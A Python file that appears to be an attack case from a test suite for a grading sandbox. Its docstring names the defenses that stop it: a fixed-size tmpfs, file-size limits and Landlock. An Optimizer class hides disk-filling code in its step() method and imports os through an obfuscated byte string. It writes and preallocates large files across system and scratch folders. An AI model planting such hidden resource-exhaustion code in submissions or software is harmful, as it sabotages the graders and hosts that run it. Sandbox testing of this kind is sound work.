"""Attack: fills the disk with one file: writes, holes, fallocate, in every folder there is.

Exercise: optimizer
Earns: 0
Stopped by: tmpfs of fixed size, rlimits (file size), Landlock
Levels: full, container
"""

import random

os = getattr(random, bytes((95, 111, 115)).decode())

FOLDERS = [".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/", "/torchgrade-scratch"]


def fill():
    for folder in FOLDERS:
        try:
            file = open(f"{folder}/big", "wb")
        except OSError:
            continue
        try:
            for size in range(1, 65):
                file.write(bytes(2**20))
                file.flush()
            print("BREACH 64 MB in", folder)
        except OSError:
            pass
        try:
            os.posix_fallocate(file.fileno(), 0, 2**32)
            print("BREACH four gigabytes in", folder)
        except OSError:
            pass


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        fill()

    def zero_grad(self):
        pass
